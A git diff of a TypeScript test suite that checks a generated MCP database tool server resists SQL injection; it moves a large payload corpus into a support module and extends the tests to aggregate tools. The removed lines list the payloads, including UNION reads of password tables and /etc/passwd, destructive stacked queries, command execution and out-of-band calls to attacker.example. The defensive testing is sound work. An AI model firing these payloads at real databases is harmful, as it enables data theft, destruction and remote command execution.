@@ -7,11 +7,13 @@ import { createConexor, type Conexor, type Dialect } from '../../src/index.js';
 import { DIALECTS, createTestDatabase, type TestDatabase } from '../support/databases.js';
 import { snapshot, type Snapshot } from '../support/snapshot.js';
 import { connectClient, textOf } from '../support/mcp.js';
+import { INJECTION_PAYLOADS, PWNED_FILE } from '../support/injection-payloads.js';
 
 /**
  * A corpus of known SQL-injection payloads sent through every string-valued parameter of every generated tool, on
  * every dialect, through a real MCP client: as text values with every text operator, as lookup keys, and as field
- * names, operator names, `order_by` fields and directions, `columns` entries and argument names.
+ * names, operator names, `order_by` fields and directions, `columns` entries, argument names, and the group keys,
+ * buckets, metric functions, fields and output names, having and order_by names of aggregate calls.
  *
  * Each call must be refused with a validation error naming the argument, or match the payload literally: two
  * payloads are stored as data and must be found exactly by `eq` and by `contains` on a fragment; for every other
@@ -21,7 +23,6 @@ import { connectClient, textOf } from '../support/mcp.js';
  * exists anywhere, and no file was written.
  */
 
-const PWNED_FILE = '/tmp/conexor_pwned';
 
 /** Stored as data; chosen so that no other payload equals them even case- and accent-insensitively. */
 const STORED_A = "Robert'); DROP TABLE victim;--";
@@ -29,149 +30,7 @@ const STORED_B = "\\'; DELETE FROM victim WHERE ''=' /*!50000 x*/";
 const FRAGMENT_A = "'); DROP";
 const FRAGMENT_B = '/*!50000';
 
-const PAYLOADS: readonly string[] = [
-  // Classic tautologies.
-  "' OR '1'='1",
-  "' OR 1=1 --",
-  '" OR "1"="1',
-  "' OR 'a'='a' /*",
-  "') OR ('1'='1",
-  "admin'--",
-  "' OR ''='",
-  '1 OR 1=1',
-  "' OR 1=1#",
-  "') OR 1=1 --",
-  "' OR 'x'='x';",
-  "%' OR 1=1 --",
-  "1' OR '1'='1' LIMIT 1 OFFSET 0 --",
-  // UNION-based.
-  "' UNION SELECT NULL--",
-  "' UNION SELECT name, name FROM victim--",
-  "' UNION ALL SELECT table_name FROM information_schema.tables--",
-  '1 UNION SELECT sqlite_version()',
-  "' UNION SELECT version(), current_user--",
-  "') UNION SELECT usename, passwd FROM pg_shadow--",
-  "' UNION SELECT sql FROM sqlite_master--",
-  // Stacked queries, including the read-only-transaction escapes.
-  "'; DROP TABLE victim; --",
-  "'; DELETE FROM victim; --",
-  "'; UPDATE victim SET name = 'pwned'; --",
-  "'; INSERT INTO victim (name) VALUES ('pwned'); --",
-  "'; CREATE TABLE pwned (x int); --",
-  'COMMIT; DROP TABLE victim;',
-  "'; COMMIT; DROP TABLE victim; CREATE TABLE pwned (x int); --",
-  "'; ROLLBACK; CREATE TABLE pwned (id int); --",
-  'SELECT 1--1;DROP TABLE victim',
-  '1; DROP TABLE victim',
-  "'; SET TRANSACTION READ WRITE; DELETE FROM victim; --",
-  "'; SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE; DELETE FROM victim; --",
-  "'; PRAGMA query_only = 0; DELETE FROM victim; --",
-  `'; ATTACH DATABASE '${PWNED_FILE}.db' AS pwned; CREATE TABLE pwned.t (x); --`,
-  "'; TRUNCATE victim; --",
-  "'; ALTER TABLE victim ADD COLUMN pwned int; --",
-  "'; CREATE ROLE pwned SUPERUSER LOGIN; --",
-  "'; CREATE USER pwned IDENTIFIED BY 'pwned'; --",
-  "'; CREATE FUNCTION pwned() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql; --",
-  "'; GRANT ALL ON victim TO PUBLIC; --",
-  "'; SET GLOBAL general_log = 'ON'; --",
-  "'; SHUTDOWN; --",
-  // Comment variants.
-  "admin'/*",
-  "'/**/OR/**/1=1/**/--",
-  "' OR 1=1-- -",
-  "' OR 1=1;#",
-  '--',
-  '#',
-  '/*',
-  '*/',
-  "'/*!50000UNION*//*!50000SELECT*/ 1--",
-  '/*! DROP TABLE victim */',
-  '/*!50000 DROP TABLE victim */',
-  "'/*!32302 AND 1=0*/--",
-  "x' /*!50000 OR */ '1'='1",
-  // Writes inside CTEs.
-  'WITH x AS (DELETE FROM victim RETURNING *) SELECT * FROM x',
-  "'; WITH x AS (UPDATE victim SET name = 'pwned' RETURNING 1) SELECT 1; --",
-  "'; WITH RECURSIVE r AS (SELECT 1) INSERT INTO victim (name) SELECT 'pwned' FROM r; --",
-  // Time-based.
-  "'; SELECT pg_sleep(3); --",
-  "' OR pg_sleep(3) IS NULL --",
-  '1 AND (SELECT 1 FROM pg_sleep(3))',
-  "' || pg_sleep(3) || '",
-  "' AND SLEEP(3)--",
-  "' OR SLEEP(3)#",
-  "1' AND BENCHMARK(50000000, MD5('x'))#",
-  "'; WAITFOR DELAY '0:0:3'--",
-  "' AND 1=(SELECT 1 FROM (SELECT SLEEP(3)) a)--",
-  "' OR randomblob(500000000) --",
-  "' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(300000000/2))))--",
-  // Boolean-blind.
-  "' AND 1=1 --",
-  "' AND 1=2 --",
-  "' AND SUBSTRING(version(), 1, 1) = 'P' --",
-  "' AND (SELECT COUNT(*) FROM victim) > 0 --",
-  "' AND ASCII(SUBSTR((SELECT name FROM victim LIMIT 1), 1, 1)) > 64 --",
-  "'||(SELECT name FROM victim LIMIT 1)||'",
-  // Out-of-band and file access.
-  `'; COPY victim TO PROGRAM 'touch ${PWNED_FILE}_program'; --`,
-  `'; COPY (SELECT 1) TO '${PWNED_FILE}_copy'; --`,
-  "' UNION SELECT LOAD_FILE('/etc/passwd')--",
-  "' UNION SELECT pg_read_file('/etc/passwd')--",
-  `' UNION SELECT name FROM victim INTO OUTFILE '${PWNED_FILE}_outfile'--`,
-  `'; SELECT * FROM victim INTO DUMPFILE '${PWNED_FILE}_dump'; --`,
-  "'; SELECT dblink_connect('host=attacker.example'); --",
-  "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT name FROM victim LIMIT 1), '.attacker.example\\\\a'))--",
-  "'; EXEC master..xp_cmdshell 'ping attacker.example'--",
-  "'; SELECT lo_import('/etc/passwd'); --",
-  "'; SELECT load_extension('/tmp/evil.so'); --",
-  // EXEC and dynamic SQL.
-  "EXEC('DELETE FROM victim')",
-  "'; EXEC('DELETE FROM victim'); --",
-  "'; EXECUTE 'DELETE FROM victim'; --",
-  "'; PREPARE s FROM 'DELETE FROM victim'; EXECUTE s; --",
-  "'; DO $$ BEGIN DELETE FROM victim; END $$; --",
-  '$$; DELETE FROM victim; $$',
-  // Encoding tricks.
-  '\u02bc OR 1=1 --',
-  '\u2019 OR 1=1 --',
-  '\uff07 OR 1=1 --',
-  '\\u0027 OR 1=1 --',
-  '%27 OR 1=1 --',
-  '%2527 OR 1=1 --',
-  '\\x27 OR 1=1 --',
-  "\\' OR 1=1 --",
-  "\\\\' OR 1=1 --",
-  "\u0000' OR 1=1 --",
-  'abc\u0000def',
-  "' OR 1=1 --\u0000",
-  "%00' OR 1=1 --",
-  "\u00bf' OR 1=1 --",
-  '&#39; OR 1=1 --',
-  "char(39) || ' OR 1=1'",
-  '0x27204f5220313d31',
-  "'\r\nDROP TABLE victim;\r\n--",
-  // Knex identifier and placeholder tricks.
-  'id as x',
-  'id AS "x"',
-  'victim.name',
-  'a.b',
-  'id asc; drop table victim',
-  '" as "',
-  '*',
-  'id desc nulls first',
-  '??',
-  '?',
-  ':name',
-  '$1',
-  '\\?',
-  // Miscellaneous.
-  "1' ORDER BY 10--",
-  "' GROUP BY id HAVING 1=1--",
-  '{"$ne": null}',
-  `' OR 1=1 --${'x'.repeat(960)}`,
-  STORED_A,
-  STORED_B,
-];
+const PAYLOADS: readonly string[] = [...INJECTION_PAYLOADS, STORED_A, STORED_B];
 
 /** A payload past the documented string limit: refused wherever it goes. */
 const TOO_LONG = `' OR 1=1 --${'x'.repeat(1_000)}`;
@@ -490,6 +349,12 @@ describe.each(DIALECTS)('injection corpus on %s', (dialect) => {
       expect(counted.isError, `${context}: ${textOf(counted)}`).toBeFalsy();
       expect((counted.structuredContent as { count: number }).count, `${context}: count ${show(where)}`).toBe(rows?.length ?? 0);
     }
+    // So does the aggregate tool, grouping by the field: only the payload itself is a group key.
+    const grouped = await send(`aggregate_${spec.name}`, { where: [cond('eq', payload)], group_by: [field] });
+    expect(grouped.isError, `${context}: ${textOf(grouped)}`).toBeFalsy();
+    const groups = (grouped.structuredContent as { rows: Record<string, unknown>[] }).rows;
+    expect(groups.reduce((total, row) => total + (row.count as number), 0), `${context}: aggregate count`).toBe(results.eq?.length ?? 0);
+    for (const row of groups) expect(equalText(dialect, String(row[field]), payload), `${context}: aggregate grouped ${JSON.stringify(row)}`).toBe(true);
   }
 
   /** The payload as a lookup key: the row holding it literally or none; as an integer key: refused. */
@@ -540,6 +405,18 @@ describe.each(DIALECTS)('injection corpus on %s', (dialect) => {
     const lookup = spec.lookups[0] as TableSpec['lookups'][number];
     const keyArgs = lookup.text ? { ...lookup.fixed, [lookup.text]: 'plain' } : { [spec.key]: 1 };
     await expectRefused(lookup.tool, { ...keyArgs, [payload]: 'x' }, 'unknown argument');
+    // Every name an aggregate call carries: group key, bucket, metric function, field and output, having, order_by.
+    const aggregate = `aggregate_${spec.name}`;
+    await expectRefused(aggregate, { group_by: [payload] }, 'group_by[0]');
+    if (spec.name === 'notes') await expectRefused(aggregate, { group_by: [textField, { field: 'day', bucket: payload }] }, 'group_by[1]');
+    await expectRefused(aggregate, { metrics: [{ fn: payload, field: textField }] }, 'metrics[0]');
+    await expectRefused(aggregate, { metrics: [{ fn: 'count' }, { fn: 'count_distinct', field: payload }] }, 'metrics[1]');
+    await expectRefused(aggregate, { metrics: [{ fn: 'count', as: payload }] }, 'metrics[0].as');
+    await expectRefused(aggregate, { having: [{ metric: payload, op: 'gt', value: 0 }] }, 'having[0]');
+    await expectRefused(aggregate, { having: [{ metric: 'count', op: payload, value: 0 }] }, 'having[0].op');
+    await expectRefused(aggregate, { group_by: [textField], order_by: [{ by: payload }] }, 'order_by[0].by');
+    await expectRefused(aggregate, { order_by: [{ by: 'count', direction: payload }] }, 'order_by[0].direction');
+    await expectRefused(aggregate, { [payload]: 1 }, 'unknown argument');
   }
 
   it(`has ${PAYLOADS.length} distinct payloads covering every known bypass, and the stored ones are unambiguous`, () => {
@@ -561,12 +438,15 @@ describe.each(DIALECTS)('injection corpus on %s', (dialect) => {
         'query_notes_by_id',
         'query_notes_by_title',
         'count_notes',
+        'aggregate_notes',
         'query_pairs',
         'query_pairs_by_grp_and_code',
         'count_pairs',
+        'aggregate_pairs',
         'query_victim',
         'query_victim_by_id',
         'count_victim',
+        'aggregate_victim',
       ].sort(),
     );
     for (const spec of TABLES) {
